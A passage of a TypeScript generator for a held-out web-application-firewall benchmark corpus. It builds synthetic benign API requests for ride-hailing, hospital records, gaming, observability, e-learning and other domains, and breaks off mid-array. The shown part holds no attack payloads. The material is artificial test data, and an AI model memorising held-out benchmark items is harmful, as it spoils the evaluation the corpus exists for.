// biome-ignore-all lint/suspicious/noTemplateCurlyInString: payloads hold literal ${…}
/**
 * Held-out WAF corpus 21 for the API profile, written blind (without reading the WAF rules, its docs,
 * its tests or the other corpora). Domains: ride-hailing & delivery dispatch, hospital electronic health
 * records (FHIR-ish), online gaming backend (chat, mod configs, Lua), SaaS observability (LogQL, PromQL,
 * KQL, alert rules, dashboards), programming e-learning (starter code, submissions, autograder output),
 * customer support desk (macros, canned HTML replies), cloud infrastructure console (IAM, Terraform,
 * CIDRs, user-data) and a recipe social network (fractions, units, emoji).
 *
 * Deterministic: every random choice comes from a seeded mulberry32 PRNG; no clock, no Math.random.
 *
 * Run: `node bench/waf/corpus/heldout21.ts` writes clean-heldout21.json and attacks-heldout21.json
 * beside this file and prints the counts.
 */
import { writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import type { CorpusRequest } from './generate.ts';

/** Seeded 32-bit PRNG (mulberry32) returning floats in [0, 1). */
function mulberry32(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const rand = mulberry32(0x21c0ffee);
const int = (lo: number, hi: number): number => lo + Math.floor(rand() * (hi - lo + 1));
const pick = <T>(xs: readonly T[]): T => {
  const x = xs[Math.floor(rand() * xs.length)];
  if (x === undefined) throw new Error('pick from empty list');
  return x;
};
const hex = (n: number): string => {
  let s = '';
  for (let i = 0; i < n; i++) s += '0123456789abcdef'[int(0, 15)];
  return s;
};
const uuid = (): string => `${hex(8)}-${hex(4)}-4${hex(3)}-${pick(['8', '9', 'a', 'b'])}${hex(3)}-${hex(12)}`;
const b64url = (s: string): string => Buffer.from(s).toString('base64url');
const b64 = (s: string): string => Buffer.from(s).toString('base64');
const iso = (): string =>
  `2026-${String(int(1, 11)).padStart(2, '0')}-${String(int(1, 28)).padStart(2, '0')}T${String(int(0, 23)).padStart(2, '0')}:${String(int(0, 59)).padStart(2, '0')}:${String(int(0, 59)).padStart(2, '0')}.${int(100, 999)}Z`;
const jwt = (): string =>
  `${b64url('{"alg":"RS256","typ":"JWT","kid":"k-' + hex(6) + '"}')}.${b64url(
    JSON.stringify({
      sub: uuid(),
      iss: 'https://auth.example-app.io/',
      exp: 1795000000 + int(0, 99999),
      scope: 'read write',
    }),
  )}.${b64url(hex(64))}`;

const UAS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15',
  'Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0',
  'RideDriver/7.12.0 (Android 14; Pixel 8)',
  'okhttp/4.12.0',
  'Dalvik/2.1.0 (Linux; U; Android 13; SM-A536B Build/TP1A.220624.014)',
  'GameClient/2.3.1 (Win64; Unity 2022.3.40f1)',
  'CFNetwork/1496.0.7 Darwin/23.5.0',
  'terraform-provider-cloudco/3.4.1 (+https://registry.terraform.io)',
  'Grafana/11.3.0',
  'python-requests/2.32.3',
  'axios/1.7.7',
];

function headers(body: 'json' | 'none' | string, extra: Record<string, string> = {}): Record<string, string> {
  const h: Record<string, string> = {
    'user-agent': pick(UAS),
    accept: body === 'none' && rand() < 0.3 ? '*/*' : 'application/json',
    authorization: rand() < 0.8 ? `Bearer ${jwt()}` : `ApiKey ak_live_${hex(32)}`,
  };
  if (rand() < 0.4) h['x-request-id'] = uuid();
  if (body === 'json') h['content-type'] = 'application/json';
  else if (body !== 'none') h['content-type'] = body;
  return { ...h, ...extra };
}

interface Draft {
  kind: string;
  method: string;
  path: string;
  headers: Record<string, string>;
  body: string;
}

const json = (kind: string, method: string, path: string, obj: unknown, ct = 'json'): Draft => ({
  kind,
  method,
  path,
  headers: headers(ct),
  body: JSON.stringify(obj),
});
const get = (kind: string, path: string): Draft => ({
  kind,
  method: 'GET',
  path,
  headers: headers('none'),
  body: '',
});
const del = (path: string): Draft => ({
  kind: 'delete',
  method: 'DELETE',
  path,
  headers: headers('none'),
  body: '',
});
const form = (path: string, fields: Record<string, string>): Draft => ({
  kind: 'form',
  method: 'POST',
  path,
  headers: headers('application/x-www-form-urlencoded'),
  body: new URLSearchParams(fields).toString(),
});
function multipart(
  kind: string,
  path: string,
  parts: { name: string; filename?: string; type?: string; data: string }[],
): Draft {
  const boundary = `----WebKitFormBoundary${b64url(hex(12)).slice(0, 16)}`;
  let body = '';
  for (const p of parts) {
    body += `--${boundary}\r\nContent-Disposition: form-data; name="${p.name}"${p.filename ? `; filename="${p.filename}"` : ''}\r\n`;
    if (p.type) body += `Content-Type: ${p.type}\r\n`;
    body += `\r\n${p.data}\r\n`;
  }
  body += `--${boundary}--\r\n`;
  return { kind, method: 'POST', path, headers: headers(`multipart/form-data; boundary=${boundary}`), body };
}
const gql = (query: string, variables: Record<string, unknown>, operationName?: string): Draft =>
  json(
    'graphql',
    'POST',
    '/graphql',
    operationName ? { operationName, query, variables } : { query, variables },
  );
const q = (o: Record<string, string | number>): string =>
  new URLSearchParams(Object.entries(o).map(([k, v]): [string, string] => [k, String(v)])).toString();

/** Body field paths an operator would declare as rich-text HTML or source code in these APIs. */
export const HELDOUT21_EXCLUDE_FIELDS: string[] = [
  'body.note.body_html',
  'body.script.source',
  'body.exercise.starter_code',
  'body.submission.source',
  'body.post.body_html',
  'body.macro.body_html',
  'body.reply.body_html',
  'body.launch_template.user_data',
  'body.module.terraform_hcl',
  'body.recipe.instructions_html',
];

// ---------------------------------------------------------------- clean: shared vocab
const STREETS = [
  "12 O'Connell St, Dublin 1",
  '1600 Amphitheatre Pkwy, Mountain View, CA 94043',
  'Rua Augusta 1508 - apto 42, São Paulo - SP, 01304-001',
  'Königstraße 27, 70173 Stuttgart',
  '東京都渋谷区道玄坂2-24-1',
  '221B Baker St (use side door, buzz #3)',
  'Calle de Alcalá, 45 - 3º izq., 28014 Madrid',
  'ул. Тверская, 7, Москва',
  'Unit 4/18 Smith & Sons Rd, Parramatta NSW 2150',
  "Apt. 5C, 350 W 42nd St -- ring 'Kowalski'",
];
const DRIVER_NOTES = [
  'Gate code is #4521* — leave at door if no answer',
  'Customer said: "don\'t ring the bell, baby sleeping" 👶',
  'Pick up from back entrance; restaurant is on 2nd floor (stairs only)',
  'Traffic on I-95 N; ETA +10min',
  "Couldn't find parking, circling block... 5 mins",
  'Order #88231 missing 1x drink (Coke 0.5L) -- refunded by store?',
  'Klingel defekt, bitte anrufen: +49 171 2345678',
  'Passenger left umbrella in car; contact via app <support>',
  'Use entrance on 3rd Ave & 14th St; security desk will call up',
  '50% of the order was cold; customer wants re-delivery OR refund',
];
const CLIN = [
  'Pt is 67yo M w/ hx of HTN, T2DM, CKD stage 3 presenting w/ SOB x3d. Denies CP. BP 162/94, HR 104, SpO2 91% on RA.',
  'Start metoprolol tartrate 25 mg PO BID; hold if SBP < 100 or HR < 55. K+ 5.4 -> repeat BMP in AM.',
  'Plan: 1) CAP - ceftriaxone 1 g IV q24h + azithromycin 500 mg PO x1 then 250 mg daily x4d. 2) DVT ppx: enoxaparin 40 mg SC qd.',
  "Allergies: PCN (rash), sulfa (anaphylaxis). Pt's daughter (HCP) updated by phone @ 14:20.",
  'A1c 8.9% (prev 7.6%). Titrate insulin glargine 18 -> 22 units qHS; f/u in 2 wks. Diet: <2g Na, 1.5L fluid restriction.',
  'Wound vac changed, 3x2x0.5 cm, granulating, no purulence. Pain 4/10 controlled w/ oxycodone 5 mg q4h PRN.',
  'Paciente refiere dolor abdominal (EVA 7/10) desde hace 2 días; se solicita ecografía y hemograma.',
  'Troponin I <0.01 ng/mL x2 (0h/3h); ECG NSR, no ST changes. Low-risk HEART score = 2 → d/c w/ outpatient stress test.',
  'Na 128 (L), K 3.1 (L), Cr 1.8 (H) -- ?AKI on CKD vs. prerenal; IVF NS @ 75 mL/h, recheck q6h.',
  'Dx: F32.1 major depressive d/o, moderate; sertraline 50 mg daily, safety plan reviewed; PHQ-9 = 16.',
];
const CHAT = [
  'gg ez',
  'anyone wanna duo ranked? need 2 more for 5-stack',
  'lol that was a 1v3 clutch <3',
  'nerf the sniper pls, 1-shot from across map is dumb',
  'BRB mom says dinner 🍕',
  'wtf lag spike 999ms',
  '/invite Xx_Sn1per_xX',
  'кто-нибудь играет на EU-west?',
  'selling [Epic Sword of Dawn] 50k gold -- whisper me',
  "can't join lobby: error code 0x80070005 again :(",
  'who drops at ">>Tilted Towers<<"?',
  'teamspeak: ts.myguild.gg:9987 pw in discord',
];
const TAGS = [
  'vegan',
  'gluten-free',
  'quick & easy',
  'comfort food',
  'keto',
  'dessert',
  'one-pot',
  'BBQ',
  'meal-prep',
];
const INGREDIENTS = [
  '1 1/2 cups all-purpose flour',
  '½ tsp kosher salt',
  '2–3 cloves garlic, minced',
  '1/4 cup (60 ml) olive oil',
  '400 g tin chopped tomatoes',
  '3 tbsp. soy sauce (or tamari for GF)',
  '1 lb (450g) chicken thighs, boneless & skinless',
  '¾ cup sugar + 2 tbsp for dusting',
  'salt & pepper to taste',
  '200ml coconut milk (full-fat!)',
  '1 x 7g sachet dried yeast',
  'pinch of saffron (~20 threads)',
];
const CAPTIONS = [
  'Sunday roast vibes 🍗🥔🔥 #comfortfood #sundaylunch',
  'First time making croissants from scratch... 27 layers 😭🥐 worth it!!!',
  "Grandma's secret: a splash of vinegar in the batter 👵❤️",
  'ラーメン作ってみた🍜 スープは12時間煮込みました',
  'Tarte tatin ratée mais délicieuse 🍎😅',
  'Meal prep for the week: 5 lunches for < $20 💪 #budget',
  'Recipe in bio 👉 link.tree/chefmaria',
  '¿Alguien sabe cómo evitar que el flan se agriete? 🍮',
  'Tried @joshuaweissman’s “but better” burger 🍔 10/10',
];
const LOGQL = [
  '{app="checkout", env="prod"} |= "error" != "timeout" | json | status >= 500',
  'sum by (service) (rate({namespace="payments"} |~ "(?i)exception|panic" [5m]))',
  '{job="nginx"} | pattern `<ip> - - [<_>] "<method> <path> <_>" <status> <_>` | status = "404"',
  'topk(10, sum by (path) (count_over_time({app="api"} | logfmt | latency_ms > 750 [1h])))',
];
const PROMQL = [
  'histogram_quantile(0.99, sum by (le, route) (rate(http_request_duration_seconds_bucket{job="gateway"}[5m])))',
  'sum(rate(http_requests_total{status=~"5.."}[5m])) / sum(rate(http_requests_total[5m])) > 0.02',
  'avg_over_time(node_load1{instance=~"db-.*"}[15m]) > on(instance) group_left count(node_cpu_seconds_total{mode="idle"}) by (instance)',
  '100 - (avg by (instance) (irate(node_cpu_seconds_total{mode="idle"}[5m])) * 100)',
  'increase(kube_pod_container_status_restarts_total{namespace!~"kube-system|monitoring"}[1h]) > 3',
];
const KQL = [
  'requests | where timestamp > ago(1h) and resultCode startswith "5" | summarize count() by bin(timestamp, 5m), name | order by count_ desc',
  'traces | where message has "NullReferenceException" | project timestamp, operation_Id, message | take 50',
  'exceptions | where type == "System.Data.SqlClient.SqlException" | extend sql = tostring(customDimensions["CommandText"]) | summarize by sql',
  'AzureDiagnostics | where Category == "ApplicationGatewayFirewallLog" and action_s == "Blocked" | summarize hits=count() by clientIp_s, ruleId_s',
];

// ---------------------------------------------------------------- clean: domain builders
type Builder = () => Draft;

const ride: Builder[] = [
  () =>
    get(
      'rest-get',
      `/v2/dispatch/drivers/nearby?${q({ lat: (40.7 + rand() / 10).toFixed(6), lng: (-74 + rand() / 10).toFixed(6), radius_m: pick([500, 1500, 3000]), vehicle: pick(['sedan', 'xl', 'bike', 'ev']) })}`,
    ),
  () =>
    json('rest-write', 'POST', '/v2/rides', {
      rider_id: uuid(),
      pickup: { address: pick(STREETS), lat: 53.349 + rand() / 100, lng: -6.26 + rand() / 100 },
      dropoff: { address: pick(STREETS), place_id: `ChIJ${b64url(hex(18))}` },
      product: pick(['standard', 'comfort', 'xl']),
      note_for_driver: pick(DRIVER_NOTES),
      payment_method: { type: 'card', token: `tok_${hex(24)}` },
      scheduled_for: rand() < 0.3 ? iso() : null,
    }),
  () =>
    json(
      'merge-patch',
      'PATCH',
      `/v2/deliveries/${uuid()}`,
      {
        status: pick(['picked_up', 'arrived', 'delivered']),
        driver_note: pick(DRIVER_NOTES),
        proof: {
          photo_url: `https://cdn.dispatch.example/pod/${hex(16)}.jpg`,
          signed_by: pick(['J. Müller', "Sean O'Brien", 'Zoë Núñez']),
        },
      },
      'application/merge-patch+json',
    ),
  () =>
    json('rest-write', 'PUT', `/v2/geofences/${pick(['airport-jfk', 'downtown-zone-b', 'stadium-events'])}`, {
      name: pick(['JFK Terminal 4 pickup', 'Downtown surge zone (B)', 'Stadium — event days only']),
      type: 'Polygon',
      coordinates: [
        [
          [-73.7781, 40.6413],
          [-73.7702, 40.6455],
          [-73.765, 40.6398],
          [-73.7781, 40.6413],
        ],
      ],
      rules: {
        max_wait_s: 300,
        surge_cap: 2.5,
        allowed_products: ['standard', 'xl'],
        note: 'Drivers must queue in lot B; no curbside >2 min',
      },
    }),
  () =>
    get(
      'search',
      `/v2/orders?${q({ status: 'in:pending,assigned', created_after: iso(), 'filter[city]': pick(['São Paulo', 'Köln', 'New York']), sort: '-created_at', page: int(1, 9) })}`,
    ),
  () => ({
    kind: 'ndjson',
    method: 'POST',
    path: '/v2/telemetry/driver-locations',
    headers: headers('application/x-ndjson'),
    body: `${Array.from({ length: int(3, 6) }, () => JSON.stringify({ driver_id: `drv_${hex(10)}`, ts: iso(), lat: 40 + rand(), lng: -73 - rand(), speed_kmh: int(0, 90), heading: int(0, 359), battery: rand() < 0.5 ? int(5, 100) : null })).join('\n')}\n`,
  }),
  () =>
    gql(
      'query ActiveTrip($id: ID!) { trip(id: $id) { id status driver { name rating vehicle { plate model } } eta route { polyline } } }',
      { id: `trip_${hex(12)}` },
      'ActiveTrip',
    ),
  () =>
    form('/v2/support/ride-issue', {
      trip_id: `trip_${hex(12)}`,
      category: 'lost_item',
      description: pick(DRIVER_NOTES),
      contact: 'rider+42@example.com',
    }),
  () =>
    multipart('multipart', '/v2/drivers/documents', [
      { name: 'doc_type', data: pick(['license', 'insurance', 'vehicle_registration']) },
      { name: 'expires_on', data: '2027-03-31' },
      {
        name: 'file',
        filename: pick(['licence_front.jpg', 'Führerschein (1).jpg', 'insurance-2026.pdf']),
        type: 'image/jpeg',
        data: b64(hex(90)),
      },
    ]),
  () =>
    del(
      `/v2/rides/${uuid()}?reason=${encodeURIComponent(pick(['rider_cancelled', 'driver no-show > 5 min', 'duplicate']))}`,
    ),
  () =>
    json('prose', 'POST', `/v2/trips/trip_${hex(12)}/rating`, {
      stars: int(1, 5),
      comment: pick([
        'Driver was great, car smelled like pine trees lol',
        "Conducteur très aimable, mais il a pris le périphérique au lieu de l'A1 ... 15€ de plus!",
        'Fahrer hat die ganze Zeit telefoniert :(',
        'Had to wait 12 min @ the airport; app said 3 min.',
        '5/5 would ride again!! 🚗💨',
      ]),
      tip_cents: pick([0, 100, 250, 500]),
    }),
  () =>
    json(
      'json-patch',
      'PATCH',
      `/v2/drivers/drv_${hex(10)}/preferences`,
      [
        { op: 'replace', path: '/max_distance_km', value: int(5, 40) },
        { op: 'add', path: '/blocked_zones/-', value: 'downtown-zone-b' },
        { op: 'remove', path: '/pet_friendly' },
      ],
      'application/json-patch+json',
    ),
];

const ehr: Builder[] = [
  () =>
    get(
      'rest-get',
      `/fhir/r4/Observation?${q({ patient: `Patient/${int(10000, 99999)}`, code: 'http://loinc.org|2345-7', date: `ge${iso().slice(0, 10)}`, _sort: '-date', _count: 50 })}`,
    ),
  () =>
    json('rest-write', 'POST', '/fhir/r4/Observation', {
      resourceType: 'Observation',
      status: 'final',
      category: [
        {
          coding: [
            { system: 'http://terminology.hl7.org/CodeSystem/observation-category', code: 'laboratory' },
          ],
        },
      ],
      code: {
        coding: [
          { system: 'http://loinc.org', code: '2951-2', display: 'Sodium [Moles/volume] in Serum or Plasma' },
        ],
      },
      subject: { reference: `Patient/${int(10000, 99999)}` },
      effectiveDateTime: iso(),
      valueQuantity: {
        value: int(125, 146),
        unit: 'mmol/L',
        system: 'http://unitsofmeasure.org',
        code: 'mmol/L',
      },
      interpretation: [{ coding: [{ code: pick(['L', 'N', 'H']) }] }],
      referenceRange: [{ low: { value: 135 }, high: { value: 145 }, text: '135-145 mmol/L' }],
      note: [
        {
          text: pick([
            'Hemolyzed sample; repeat if clinically indicated.',
            'Value < LLN; provider notified @ 03:12 (read-back OK).',
            "Specimen rec'd >4h after draw",
          ]),
        },
      ],
    }),
  () =>
    json('cms-html', 'POST', `/api/encounters/${int(100000, 999999)}/notes`, {
      note: {
        type: pick(['progress', 'h&p', 'discharge_summary']),
        author_npi: String(int(1000000000, 1999999999)),
        body_html: `<h3>Assessment &amp; Plan</h3><p>${pick(CLIN).replace(/</g, '&lt;')}</p><ul><li>Labs: CBC, BMP, Mg, Phos in AM</li><li>Code status: <strong>Full</strong></li></ul><p><em>Signed electronically</em></p>`,
        plain_text: pick(CLIN),
      },
    }),
  () =>
    json('prose', 'POST', `/api/patients/${int(10000, 99999)}/messages`, {
      subject: pick(['Re: lab results', 'Refill request – lisinopril', 'Question about my MRI']),
      body: pick([
        "Hi Dr. Patel, my BP readings this week: 148/92, 151/95, 139/88. Should I increase to 20mg? I've been taking it w/ breakfast.",
        'Can I take ibuprofen 400mg with my warfarin? Pharmacist said "no" but my knee is killing me.',
        'Bonjour, je voudrais savoir si mes résultats (TSH 4,8 mUI/L) sont normaux ?',
      ]),
      attachments: [],
    }),
  () =>
    json('rest-write', 'POST', '/api/orders/medication', {
      patient_id: int(10000, 99999),
      drug: pick(['vancomycin', 'heparin', 'insulin lispro', 'acetaminophen']),
      dose: pick(['15 mg/kg', '5000 units', '1 unit/10 g CHO + correction', '650 mg']),
      route: pick(['IV', 'SC', 'PO']),
      frequency: pick(['q12h', 'q8h', 'AC & HS', 'q6h PRN temp > 38.5°C']),
      sig: 'Trough before 4th dose; target 15-20 mcg/mL',
      max_daily: '4 g/24h',
    }),
  () =>
    get(
      'search',
      `/api/patients/search?${q({ name: pick(["O'Neil", 'García-López', 'Nguyễn', 'St. John']), dob: '1958-04-1*', mrn: `MRN-${int(100000, 999999)}` })}`,
    ),
  () => ({
    kind: 'rest-write',
    method: 'POST',
    path: '/api/interfaces/hl7v2/inbound',
    headers: headers('application/json'),
    body: JSON.stringify({
      source: 'LAB-SYS-01',
      message: `MSH|^~\\&|LAB|HOSP|EHR|HOSP|${iso().replace(/\D/g, '').slice(0, 14)}||ORU^R01|${int(10000, 99999)}|P|2.5.1\rPID|1||${int(100000, 999999)}^^^HOSP^MR||DOE^JANE^Q||19620314|F\rOBX|1|NM|2823-3^Potassium^LN||${(3 + rand() * 2.5).toFixed(1)}|mmol/L|3.5-5.1|N|||F`,
    }),
  }),
  () =>
    json(
      'merge-patch',
      'PATCH',
      `/fhir/r4/AllergyIntolerance/${int(1000, 9999)}`,
      {
        clinicalStatus: { coding: [{ code: 'resolved' }] },
        note: [{ text: 'Pt tolerated amoxicillin challenge 2026-03 w/o rxn; de-labeled.' }],
      },
      'application/merge-patch+json',
    ),
  () =>
    multipart('multipart', '/api/documents/scan', [
      { name: 'patient_id', data: String(int(10000, 99999)) },
      { name: 'category', data: 'outside records' },
      {
        name: 'file',
        filename: 'ECG_2026-05-11.pdf',
        type: 'application/pdf',
        data: `%PDF-1.7\n${b64(hex(80))}`,
      },
    ]),
  () =>
    gql(
      'query Meds($pid: ID!, $active: Boolean) { patient(id: $pid) { medications(active: $active) { name dose route frequency prescriber { name } } } }',
      { pid: String(int(10000, 99999)), active: true },
      'Meds',
    ),
  () => del(`/api/patients/${int(10000, 99999)}/problem-list/${int(1, 40)}`),
  () =>
    form('/api/scheduling/appointments', {
      patient_id: String(int(10000, 99999)),
      provider: 'Dr. Ana-María Ruiz, MD',
      slot: iso(),
      reason: 'f/u HTN + med rec (bring pill bottles!)',
    }),
];

const gaming: Builder[] = [
  () =>
    json('prose', 'POST', `/v1/chat/channels/${pick(['global', 'guild-42', 'party-' + hex(6)])}/messages`, {
      text: pick(CHAT),
      client_ts: int(1790000000000, 1799999999999),
      mentions: [],
    }),
  () =>
    get(
      'rest-get',
      `/v1/leaderboards/${pick(['ranked-solo', 'speedrun-any%', 'weekly-arena'])}?${q({ season: 14, region: pick(['eu-west', 'na-east', 'apac']), offset: int(0, 500), limit: 100, around_player: `p_${hex(8)}` })}`,
    ),
  () =>
    json('code', 'PUT', `/v1/mods/${pick(['better-hud', 'auto-loot', 'raid-timers'])}/scripts/main`, {
      script: {
        language: 'lua',
        version: `1.${int(0, 9)}.${int(0, 20)}`,
        source: `local M = {}\nlocal cfg = require("config")\n\nfunction M.onDamage(evt)\n  if evt.target == player and evt.amount > cfg.threshold then\n    ui.flash("#ff0000", 0.25)\n    print(string.format("took %d dmg from %s", evt.amount, evt.source or "?"))\n  end\n  -- ignore self-damage\n  return evt.amount >= 0 and true or false\nend\n\nfor i, v in ipairs(cfg.bars) do M[v.id] = {x=v.x, y=v.y} end\nreturn M\n`,
      },
    }),
  () =>
    json('rest-write', 'POST', '/v1/mods', {
      name: pick(['Better HUD', "Raid Timers (Kara's fork)", 'Loot <Filter> Plus']),
      slug: `mod-${hex(5)}`,
      config: {
        keybinds: { toggle: 'Ctrl+Shift+H', menu: 'Alt+`' },
        colors: { hp: '#e53935', mana: 'rgba(30,136,229,0.8)' },
        filters: ['rarity >= epic', 'ilvl > 450 && !soulbound', "name ~ 'Dragon*'"],
      },
      tags: ['ui', 'qol'],
    }),
  () =>
    json('rest-write', 'POST', '/v1/matches/results', {
      match_id: uuid(),
      mode: '5v5',
      duration_s: int(900, 2400),
      teams: [
        { id: 'blue', score: int(0, 16), players: [`p_${hex(8)}`, `p_${hex(8)}`] },
        { id: 'red', score: int(0, 16), players: [`p_${hex(8)}`] },
      ],
      mvp: `p_${hex(8)}`,
      anticheat: { verdict: 'clean', signature: b64(hex(40)) },
    }),
  () =>
    gql(
      'query Profile($name: String!) { player(name: $name) { id level rank { tier division lp } inventory(first: 20) { edges { node { itemId name rarity } } } } }',
      { name: pick(['xX_DarkLord_Xx', 'Ñandú', '<<Ghost>>', 'Dr. Kill™', 'ろけっと']) },
      'Profile',
    ),
  () =>
    get(
      'graphql',
      `/graphql?extensions=${encodeURIComponent(JSON.stringify({ persistedQuery: { version: 1, sha256Hash: hex(64) } }))}&variables=${encodeURIComponent(JSON.stringify({ season: 14, first: 25 }))}`,
    ),
  () =>
    json(
      'json-patch',
      'PATCH',
      `/v1/players/p_${hex(8)}/settings`,
      [
        { op: 'replace', path: '/audio/master', value: 0.65 },
        {
          op: 'replace',
          path: '/crosshair',
          value: 'cl_crosshairsize 2; cl_crosshairgap -1; cl_crosshaircolor 5',
        },
      ],
      'application/json-patch+json',
    ),
  () =>
    form('/v1/reports/player', {
      reported: `p_${hex(8)}`,
      reason: 'cheating',
      details: 'aimbot? snapped 180° through smoke 3x in a row, see replay @ 12:41',
      match_id: uuid(),
    }),
  () =>
    multipart('multipart', '/v1/replays/upload', [
      { name: 'match_id', data: uuid() },
      {
        name: 'replay',
        filename: 'match_2026-06-01_21-14.dem',
        type: 'application/octet-stream',
        data: b64(hex(120)),
      },
    ]),
  () => del(`/v1/guilds/g_${hex(6)}/members/p_${hex(8)}?ban=${pick(['true', 'false'])}`),
  () =>
    json(
      'jsonapi',
      'POST',
      '/v1/tournaments',
      {
        data: {
          type: 'tournaments',
          attributes: {
            name: pick(['Friday Night Frag #12', 'Copa América — Clasificatoria', '春季大会']),
            format: 'double-elim',
            starts_at: iso(),
            rules_md:
              '## Rules\n- BO3, finals BO5\n- No `exploits` (wall-clips = DQ)\n- Pause max 5 min/team',
          },
          relationships: { organizer: { data: { type: 'users', id: String(int(1, 99999)) } } },
        },
      },
      'application/vnd.api+json',
    ),
];

const obs: Builder[] = [
  () =>
    get(
      'search',
      `/loki/api/v1/query_range?${q({ query: pick(LOGQL), start: String(1790000000 + int(0, 99999)), end: String(1790100000 + int(0, 99999)), limit: 1000, direction: 'backward' })}`,
    ),
  () => get('search', `/api/v1/query?${q({ query: pick(PROMQL), time: iso() })}`),
  () =>
    json('search', 'POST', '/api/kusto/v1/query', {
      db: 'appinsights-prod',
      csl: pick(KQL),
      properties: { Options: { servertimeout: '00:01:00' } },
    }),
  () =>
    json('rest-write', 'POST', '/api/alerting/rules', {
      name: pick(['High 5xx ratio', 'p99 latency > 750ms', 'Pod crashloop']),
      expr: pick(PROMQL),
      for: pick(['5m', '10m']),
      labels: { severity: pick(['page', 'ticket']), team: 'payments' },
      annotations: {
        summary: '{{ $labels.route }} error ratio is {{ $value | humanizePercentage }}',
        runbook_url: 'https://runbooks.internal.example/alerts/high-5xx#mitigation',
        description: 'Check recent deploys: `kubectl rollout history deploy/checkout -n payments`',
      },
    }),
  () =>
    json('rest-write', 'PUT', `/api/dashboards/uid/${hex(9)}`, {
      dashboard: {
        title: 'Checkout — SLOs',
        tags: ['slo', 'payments'],
        templating: { list: [{ name: 'env', query: 'label_values(up, env)', current: { text: 'prod' } }] },
        panels: [
          {
            id: 1,
            type: 'timeseries',
            title: 'Error budget burn',
            targets: [{ expr: pick(PROMQL), legendFormat: '{{route}}' }],
          },
          { id: 2, type: 'logs', targets: [{ expr: pick(LOGQL) }] },
        ],
      },
      overwrite: true,
      message: 'bump thresholds per INC-2231',
    }),
  () => ({
    kind: 'ndjson',
    method: 'POST',
    path: '/v1/logs/ingest',
    headers: headers('application/x-ndjson'),
    body: `${Array.from({ length: int(3, 6) }, () => JSON.stringify({ ts: iso(), level: pick(['info', 'warn', 'error']), service: pick(['checkout', 'auth', 'search']), msg: pick(['GET /api/v2/cart?id=8812 200 41ms', 'SELECT * FROM orders WHERE user_id = $1 took 1834ms', 'upstream connect error or disconnect/reset before headers. reset reason: connection failure', 'java.lang.NullPointerException: Cannot invoke "String.length()" because "name" is null\n\tat com.shop.Cart.total(Cart.java:88)', 'user login failed for "jdoe@example.com" from 203.0.113.7']), trace_id: hex(32) })).join('\n')}\n`,
  }),
  () =>
    json('rest-write', 'POST', '/v1/traces', {
      resourceSpans: [
        {
          resource: { attributes: [{ key: 'service.name', value: { stringValue: 'orders-api' } }] },
          scopeSpans: [
            {
              spans: [
                {
                  traceId: hex(32),
                  spanId: hex(16),
                  name: 'SELECT orders',
                  kind: 3,
                  attributes: [
                    {
                      key: 'db.statement',
                      value: {
                        stringValue:
                          'SELECT id, total FROM orders WHERE customer_id = ? AND status IN (?, ?) ORDER BY created_at DESC LIMIT 20',
                      },
                    },
                    {
                      key: 'http.url',
                      value: { stringValue: 'https://api.shop.example/v1/orders?page=2&sort=-created_at' },
                    },
                  ],
                },
              ],
            },
          ],
        },
      ],
    }),
  () =>
    get(
      'rest-get',
      `/api/traces/${hex(32)}?${q({ minDuration: '250ms', service: 'orders-api', tags: 'http.status_code=500 error=true' })}`,
    ),
  () =>
    gql(
      'query Incidents($filter: IncidentFilter) { incidents(filter: $filter, first: 20) { nodes { id title severity startedAt timeline { at text } } } }',
      {
        filter: {
          status: ['TRIGGERED', 'ACKED'],
          service: 'checkout',
          search: 'latency OR "connection reset"',
        },
      },
      'Incidents',
    ),
  () =>
    json(
      'merge-patch',
      'PATCH',
      `/api/silences/${uuid()}`,
      {
        comment: 'Maintenance window — DB failover (CHG-4471), ends 02:00 UTC',
        endsAt: iso(),
        matchers: [
          { name: 'alertname', value: 'Postgres.*', isRegex: true },
          { name: 'instance', value: 'db-primary-0:9187', isRegex: false },
        ],
      },
      'application/merge-patch+json',
    ),
  () => del(`/api/dashboards/uid/${hex(9)}`),
  () =>
    form('/api/annotations', {
      dashboardUID: hex(9),
      text: 'Deploy v2.14.3 → prod (rollback of #1182: "fix N+1 in /orders")',
      tags: 'deploy,prod',
      time: String(1790000000000 + int(0, 9999999)),
    }),
];

const edu: Builder[] = [
  () =>
    json('code', 'POST', '/api/courses/cs101/exercises', {
      exercise: {
        title: pick(['FizzBuzz', 'Reverse a linked list', 'SQL: top customers', 'Parse a CSV line']),
        language: pick(['python', 'javascript', 'sql', 'c']),
        prompt_md:
          'Write a function that returns the `n`-th item. Use **no** built-ins like `sorted()`.\n\n```\n>>> solve([3, 1, 2])\n[1, 2, 3]\n```',
        starter_code: pick([
          'def solve(nums: list[int]) -> list[int]:\n    # TODO: your code here\n    pass\n\nif __name__ == "__main__":\n    import sys\n    print(solve(list(map(int, sys.stdin.read().split()))))\n',
          '-- Return the 5 customers with the highest total spend\nSELECT c.name, SUM(o.total) AS spend\nFROM customers c\nJOIN orders o ON o.customer_id = c.id\n-- WHERE ...\nGROUP BY c.name\nORDER BY spend DESC\nLIMIT 5;\n',
          '#include <stdio.h>\n#include <string.h>\n\nint main(void) {\n    char buf[256];\n    while (fgets(buf, sizeof buf, stdin)) {\n        /* your code */\n    }\n    return 0;\n}\n',
          "function parseLine(line) {\n  // handle quotes: 'a,\"b,c\",d' -> ['a', 'b,c', 'd']\n  return line.split(',');\n}\nmodule.exports = { parseLine };\n",
        ]),
        tests: [
          { input: '3 1 2', expected: '1 2 3', hidden: false },
          { input: '', expected: '', hidden: true },
        ],
      },
    }),
  () =>
    json('code', 'POST', `/api/exercises/${int(100, 999)}/submissions`, {
      submission: {
        language: pick(['python', 'javascript', 'sql']),
        source: pick([
          'import os\nimport subprocess\n\ndef solve(nums):\n    return sorted(nums)  # I know, I know\n',
